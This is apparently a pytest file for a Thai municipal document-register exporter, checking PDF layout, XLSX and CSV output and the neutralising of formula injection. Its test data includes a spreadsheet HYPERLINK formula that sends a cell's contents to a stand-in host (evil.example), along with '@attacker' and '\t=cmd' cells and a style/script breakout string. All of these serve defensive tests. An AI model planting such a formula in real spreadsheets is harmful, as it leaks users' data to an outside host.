"""Book exports: PDF laid out like แบบที่ 13/14, XLSX and CSV with formula injection neutralised.

Pure functions over plain rows: no database. Checked with pdftotext / pikepdf / openpyxl / csv.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import time
from datetime import UTC, date, datetime, timedelta

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from documents.registry.exports import (
    ExportMeta,
    ExportRow,
    css_string,
    export_book_csv,
    export_book_pdf,
    export_book_xlsx,
    neutralise_formula,
    table_headers,
)

GENERATED = datetime(2026, 11, 25, 8, 0, tzinfo=UTC)
FIRST_DAY = datetime(2026, 1, 5, 2, 0, tzinfo=UTC)  # 09.00 น. on 5 ม.ค. 2569 in Bangkok
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'


def meta(**kw) -> ExportMeta:  # type: ignore[no-untyped-def]
    values = {
        "agency_name": "เทศบาลนครนครราชสีมา", "book_name": "ทะเบียนรับกลาง", "year_be": 2569, "incoming": True,
        "thai_digits": False, "generated_at": GENERATED,
    }
    values.update(kw)
    return ExportMeta(**values)


def row(i: int, **kw) -> ExportRow:  # type: ignore[no-untyped-def]
    values = {
        "number": str(i), "reference": f"ที่ นม 0017.1/{i}", "letter_date": date(2026, 1, 3),
        "sender": "สำนักงานจังหวัดนครราชสีมา", "recipient": "นายกเทศมนตรีนครนครราชสีมา",
        "subject": f"ขอความอนุเคราะห์ช่วยเหลือผู้ประสบภัยน้ำท่วม ครั้งที่ {i}", "action": "มอบกองช่างดำเนินการ",
        "remarks": "", "registered_at": FIRST_DAY + timedelta(hours=9 * (i - 1)),
    }
    values.update(kw)
    return ExportRow(**values)


def pdftotext(pdf: bytes, *args: str) -> str:
    return subprocess.run(["pdftotext", "-q", *args, "-", "-"], input=pdf, capture_output=True, check=True,
                          timeout=300).stdout.decode("utf-8")


def squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


# --- neutralisation -------------------------------------------------------------------------------------
def test_neutralise_formula_examples():
    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", HYPERLINK):
        assert neutralise_formula(risky) == "'" + risky
    for safe in ("", "เรื่อง =1", "1234", "ที่ นม 0017.1/5", "a-b", "'already"):
        assert neutralise_formula(safe) == safe


@given(st.text())
def test_neutralised_text_never_starts_a_formula(text):
    out = neutralise_formula(text)
    assert out == text or out == "'" + text
    assert not out[:1] or out[0] not in "=+-@\t\r\n"
    assert not out.lstrip(" ")[:1] or out.lstrip(" ")[0] not in "=+-@"


def test_css_string_cannot_break_out():
    quoted = css_string('อบต. "x" \\ </style><script>{}; \n')
    assert quoted.startswith('"') and quoted.endswith('"')
    inner = quoted[1:-1]
    assert '"' not in inner and "<" not in inner and ";" not in inner and "{" not in inner and "\n" not in inner


# --- PDF ------------------------------------------------------------------------------------------------
def test_incoming_pdf_has_form_13_columns_date_header_thai_subject_and_page_numbers():
    rows = [row(1, urgency_label="ด่วนที่สุด"), row(2, status_label="ยกเลิก", remarks="ออกเลขผิด"), row(3),
            row(4, subject="ขอรับการสนับสนุนงบประมาณซ่อมแซมถนน", secrecy_label="ลับ")]
    pdf = export_book_pdf(meta(agency_name='อบต. "หนองบัว" </style>'), rows)
    text = pdftotext(pdf)
    flat = squash(text)
    for expected in ("ทะเบียนหนังสือรับ", "เลขทะเบียนรับ", "ที่", "ลงวันที่", "จาก", "ถึง", "เรื่อง", "การปฏิบัติ",
                     "หมายเหตุ", "แบบที่13", "พ.ศ.2569"):
        assert squash(expected) in flat, expected
    assert "น้ำท่วม" in text  # SARA AM under a tone mark, exactly as typed
    assert "วันที่ 5 เดือน มกราคม พ.ศ. 2569" in text  # the page header of the paper form
    assert "วันที่ 6 เดือน มกราคม พ.ศ. 2569" in text  # the second registration date gets its own heading
    assert "3 ม.ค. 2569" in text  # ลงวันที่ in the Buddhist Era
    assert "ด่วนที่สุด" in text and "ยกเลิก" in text and "ลับ" in text
    assert 'อบต. "หนองบัว" </style>' in text  # an odd agency name is printed, not interpreted
    assert "หน้า 1 / 1" in text
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        box = [round(float(v)) for v in doc.pages[0].mediabox]
        assert box[2] > box[3]  # A4 landscape
        assert (box[2], box[3]) == (842, 595)
    fonts = subprocess.run(["pdffonts", "-"], input=pdf, capture_output=True, check=True).stdout.decode()
    names = [line.split()[0].split("+")[-1] for line in fonts.splitlines()[2:] if line.strip()]
    assert names and all(name.startswith("EofficeSarabun") for name in names), names


def test_outgoing_pdf_uses_form_14_and_thai_digits():
    rows = [row(i, action="") for i in range(1, 4)]
    pdf = export_book_pdf(meta(incoming=False, book_name="ทะเบียนส่ง", thai_digits=True), rows)
    text = pdftotext(pdf)
    flat = squash(text)
    assert "ทะเบียนหนังสือส่ง" in text and "เลขทะเบียนส่ง" in flat and "แบบที่๑๔" in flat
    assert "การปฏิบัติ" not in flat
    assert "๓ ม.ค. ๒๕๖๙" in text and "หน้า ๑ / ๑" in text


def test_empty_book_pdf_says_so():
    text = pdftotext(export_book_pdf(meta(), []))
    assert "ไม่มีรายการในทะเบียนนี้" in text and "ทะเบียนหนังสือรับ" in text


# --- XLSX -----------------------------------------------------------------------------------------------
def test_xlsx_neutralises_formulas_and_keeps_thai_and_iso_dates():
    rows = [
        row(1, subject=HYPERLINK),
        row(2, remarks="+66 81 234 5678", sender="@attacker", recipient="-2+3"),
        row(3, subject="น้ำท่วม\x00\x07 ฉับพลัน", letter_date=None),
    ]
    data = export_book_xlsx(meta(), rows)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "ทะเบียนรับ 2569"
    header = [c.value for c in sheet[1]]
    assert header == table_headers(True)
    subject_col = header.index("เรื่อง") + 1
    cell = sheet.cell(row=2, column=subject_col)
    assert cell.value == "'" + HYPERLINK
    assert cell.data_type == "s"  # a string, not a formula
    assert sheet.cell(row=3, column=header.index("หมายเหตุ") + 1).value == "'+66 81 234 5678"
    assert sheet.cell(row=3, column=header.index("จาก") + 1).value == "'@attacker"
    assert sheet.cell(row=3, column=header.index("ถึง") + 1).value == "'-2+3"
    assert sheet.cell(row=4, column=subject_col).value == "น้ำท่วม ฉับพลัน"  # control characters dropped
    for r in sheet.iter_rows(min_row=2):
        for c in r:
            assert c.data_type != "f"
    second = [c.value for c in sheet[2]]
    assert second[header.index("ลงวันที่")] == "3 ม.ค. 2569"
    assert second[header.index("วันที่ลงทะเบียน")] == "5 ม.ค. 2569"
    assert second[header.index("เวลาลงทะเบียน")] == "09.00 น."
    assert second[header.index("ลงวันที่ (ISO)")] == datetime(2026, 1, 3)  # noqa: DTZ001 - Excel dates are naive
    assert second[header.index("ลงทะเบียนเมื่อ (ISO)")] == datetime(2026, 1, 5, 9, 0)  # noqa: DTZ001 - Bangkok
    assert sheet.cell(row=2, column=header.index("ลงวันที่ (ISO)") + 1).number_format == "yyyy-mm-dd"
    assert sheet.cell(row=4, column=header.index("ลงวันที่") + 1).value in (None, "")


# --- CSV ------------------------------------------------------------------------------------------------
def test_csv_has_bom_thai_headers_and_neutralised_cells():
    data = export_book_csv(meta(incoming=False), [row(1, subject="=1+1", action=""), row(2, remarks="\t=cmd")])
    assert data.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines[0] == table_headers(False)
    assert lines[0][0] == "เลขทะเบียนส่ง" and "การปฏิบัติ" not in lines[0]
    first = dict(zip(lines[0], lines[1], strict=True))
    assert first["เรื่อง"] == "'=1+1"
    assert first["ลงวันที่"] == "3 ม.ค. 2569"
    assert first["ลงวันที่ (ISO)"] == "2026-01-03"
    assert first["ลงทะเบียนเมื่อ (ISO)"] == "2026-01-05T09:00:00+07:00"
    second = dict(zip(lines[0], lines[2], strict=True))
    assert second["หมายเหตุ"] == "'\t=cmd"
    assert b"\r\n" in data


def test_naive_datetimes_are_a_programming_error():
    with pytest.raises(ValueError):
        export_book_csv(meta(), [row(1, registered_at=datetime(2026, 1, 5, 9, 0))])  # noqa: DTZ001


# --- volume ---------------------------------------------------------------------------------------------
def test_a_thousand_rows_export_in_all_three_formats():
    rows = [
        row(i, urgency_label="ด่วน" if i % 10 == 0 else "", subject=("=1+1" if i == 500 else f"น้ำท่วม ครั้งที่ {i}"))
        for i in range(1, 1001)
    ]
    started = time.perf_counter()
    csv_bytes = export_book_csv(meta(), rows)
    csv_seconds = time.perf_counter() - started
    started = time.perf_counter()
    xlsx_bytes = export_book_xlsx(meta(), rows)
    xlsx_seconds = time.perf_counter() - started
    started = time.perf_counter()
    pdf_bytes = export_book_pdf(meta(), iter(rows))  # any iterable, e.g. a queryset iterator
    pdf_seconds = time.perf_counter() - started
    with pikepdf.open(io.BytesIO(pdf_bytes)) as doc:
        pages = len(doc.pages)
    print(
        f"\n1,000 rows: CSV {csv_seconds:.2f} s ({len(csv_bytes) // 1024} KiB), XLSX {xlsx_seconds:.2f} s "
        f"({len(xlsx_bytes) // 1024} KiB), PDF {pdf_seconds:.1f} s ({pages} pages, {len(pdf_bytes) // 1024} KiB)"
    )
    assert len(list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))) == 1001
    sheet = load_workbook(io.BytesIO(xlsx_bytes), read_only=True).active
    assert sum(1 for _ in sheet.iter_rows()) == 1001
    assert pages > 10
    last_page = pdftotext(pdf_bytes, "-f", str(pages), "-l", str(pages))
    assert "1000" in last_page and f"หน้า {pages} / {pages}" in last_page
